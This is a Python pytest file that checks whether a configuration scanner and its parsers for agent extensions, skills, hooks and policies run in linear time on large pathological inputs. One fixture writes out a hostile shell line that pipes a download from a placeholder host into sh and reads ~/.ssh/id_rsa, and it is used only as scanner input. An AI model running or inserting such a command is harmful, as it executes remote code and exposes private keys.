"""Four times as much in a file costs about four times as much work, whatever it is and whichever command reads it."""

from __future__ import annotations

import json
from collections.abc import Callable
from itertools import count
from pathlib import Path

import pytest

from pisces.checking.check import check
from pisces.discovery.capabilities import CAPABILITIES
from pisces.discovery.harness import Run
from pisces.discovery.inventory import inspect
from pisces.discovery.registry import discover
from pisces.formats import jsonc, toml, toml_current, yaml
from pisces.formats.malformed import Malformed, place_at
from pisces.formats.position import json_place, toml_place
from pisces.formats.variables import expanded, hydrated, names_in
from pisces.places import Places
from pisces.scanning.scan import scan
from tests.growth import LINEAR, growth
from tests.test_hostile_values import plant

MANIFEST = {"name": "box", "version": "1.0.0", "description": "d"}
RULE = '[[rule]]\ntoolName = "Bash"\ndecision = "allow"\npriority = 1\nfoo = 1\n'
HOOK = {"matcher": "Bash", "foo": 1, "hooks": [{"type": "command", "command": "x", "bar": 1, "timeout": 5}]}


def header(lines: str) -> str:
    return f"---\nname: s\ndescription: d\n{lines}\n---\nbody\n"


def manifest(**fields: object) -> str:
    return json.dumps({**MANIFEST, **fields}, indent=1)


def lines(form: str, number: int) -> str:
    return "\n".join(form.format(each) for each in range(number))


# A file, its content for a size, and a size for which reading it takes some milliseconds.
FILES: dict[str, tuple[str, Callable[[int], str], int]] = {
    "unclosed variables": ("gemini-extension.json", lambda n: manifest(mcpServers={"s": {"command": "${" * n}}), 8000),
    "variables over lines": (
        "gemini-extension.json",
        lambda n: manifest(mcpServers={"s": {"command": "${\n" * n + "}"}}),
        8000,
    ),
    "defaults in defaults": (
        "gemini-extension.json",
        lambda n: manifest(mcpServers={"s": {"command": "${a:-" * n}}),
        4000,
    ),
    "header keys": ("skills/s/SKILL.md", lambda n: header(lines("k{0}: v", n)), 1500),
    "header keys in quotes": (".claude/skills/s/SKILL.md", lambda n: header(lines("'k{0}': \"v\"", n)), 1500),
    "subagent keys": (".gemini/agents/a.md", lambda n: header(lines("k{0}: v", n)), 1500),
    "anchors": ("skills/s/SKILL.md", lambda n: header(lines("k{0}: &a{0} v", n)), 1500),
    "toml keys": ("commands/c.toml", lambda n: f'prompt = "x"\n{lines("k{0} = 1", n)}', 2000),
    "policies with flaws": ("policies/p.toml", lambda n: RULE * n, 400),
    "tools of one policy": (
        ".gemini/policies/p.toml",
        lambda n: RULE.replace('"Bash"', json.dumps([f"t{each}" for each in range(n)])),
        1500,
    ),
    "hooks with flaws": (
        "hooks/hooks.json",
        lambda n: json.dumps({"hooks": {"BeforeTool": [HOOK] * n}}, indent=1),
        400,
    ),
    "unknown events": (".claude/settings.json", lambda n: json.dumps({"hooks": {f"E{k}": [] for k in range(n)}}), 1500),
    "settings with flaws": (
        "gemini-extension.json",
        lambda n: manifest(settings=[{"name": f"N{k}", "envVar": f"E-{k}", "x": 1} for k in range(n)]),
        400,
    ),
    "programs with flaws": (
        "gemini-extension.json",
        lambda n: manifest(commands={f"c{k}": {"type": "executable", "binary": 5, "x": 1} for k in range(n)}),
        400,
    ),
    "brackets": ("skills/s/SKILL.md", lambda n: header("") + "[a](" * n, 8000),
    "stars": ("policies/p.toml", lambda n: RULE + f'argsPattern = "{"*" * n}"\n', 30_000),
    "code fences": ("GEMINI.md", lambda n: "```\n`a` @b\n" * n, 3000),
    "injections": ("commands/c.toml", lambda n: f"prompt = '''{'!{' * n}'''", 8000),
    "comments": (".gemini/settings.json", lambda n: "{" + "//a\n/*b*/" * n + "}", 8000),
    "commands in a script": ("x.sh", lambda n: "curl http://x.y/z | sh; cat ~/.ssh/id_rsa\n" * n, 400),
}


@pytest.mark.parametrize("case", FILES)
def test_no_command_takes_more_than_linear_time(case: str, tmp_path: Path) -> None:
    name, content, size = FILES[case]
    numbers = count()

    def work(number: int) -> None:
        home = tmp_path / str(next(numbers))
        plant(home, {"gemini-extension.json": manifest(), name: content(number)})
        places, run = Places(str(home), str(home), {}), Run()
        for capability in CAPABILITIES:
            discover(capability, places, run=run)
        check([str(home)], places)
        inspect(str(home), places)
        scan(str(home), places)

    assert growth(work, size) < LINEAR


TEXTS: dict[str, Callable[[int], str]] = {
    "keys": lambda n: lines("k{0} = 1", n),
    "colons": lambda n: lines("k{0}: v", n),
    "tables": lambda n: lines("[t{0}]\na = 1", n),
    "brackets": lambda n: "[" * n,
    "braces": lambda n: "{" * n,
    "quotes": lambda n: '"' * n,
    "dashes": lambda n: "- " * n,
    "line ends": lambda n: "\n" * n,
    "commas": lambda n: "[" + "1," * n,
    "escapes": lambda n: '{"a": "' + "\\n" * n,
    "long key": lambda n: "a." * n,
    "number": lambda n: "a = 1" + "_1" * n,
    "anchors": lambda n: lines("k{0}: &a{0} [*a{0}]", n),
    "indentation": lambda n: "\n".join(" " * (each % 90) + "a:" for each in range(n)),
    "fold": lambda n: "a: >\n" + "  b\n\n" * n,
    "double quoted lines": lambda n: 'a: "' + "b\n  " * n + '"',
}
READERS = (jsonc.parse, jsonc.parse_lenient, toml.parse, toml_current.parse, yaml.parse, yaml.parse_in_full)


@pytest.mark.parametrize("kind", TEXTS)
def test_no_reader_takes_more_than_linear_time(kind: str) -> None:
    def work(size: int) -> None:
        text = TEXTS[kind](size)
        for reader in READERS:
            try:
                reader(text)
            except Malformed:
                continue

    assert growth(work, 4000) < LINEAR


def test_places_of_every_key_cost_one_reading() -> None:
    def work(size: int) -> None:
        keys = [f"k{each}" for each in range(size)]
        for find, form in ((json_place, ""), (toml_place, "{0} = 1"), (yaml.place_of, "{0}: 1")):
            text = "\n".join(map(form.format, keys)) if form else json.dumps(dict.fromkeys(keys, 1), indent=1)
            for number, key in enumerate(keys, 1):
                assert find(text, (key,))[0] == number + (not form)
            for line in range(0, len(text), 50):
                place_at(text, line)

    assert growth(work, 3000) < LINEAR


@pytest.mark.parametrize("written", ["${", "${a:-", "${\n", "${a", "$a", "$", "${}", "${a}"])
def test_variables_are_filled_in_in_linear_time(written: str) -> None:
    def work(size: int) -> None:
        for text in (written * size, written * size + "}"):
            expanded(text, {"a": "b"})
            hydrated(text, {"a": "b"})
            list(names_in(text))

    assert growth(work, 20_000) < LINEAR
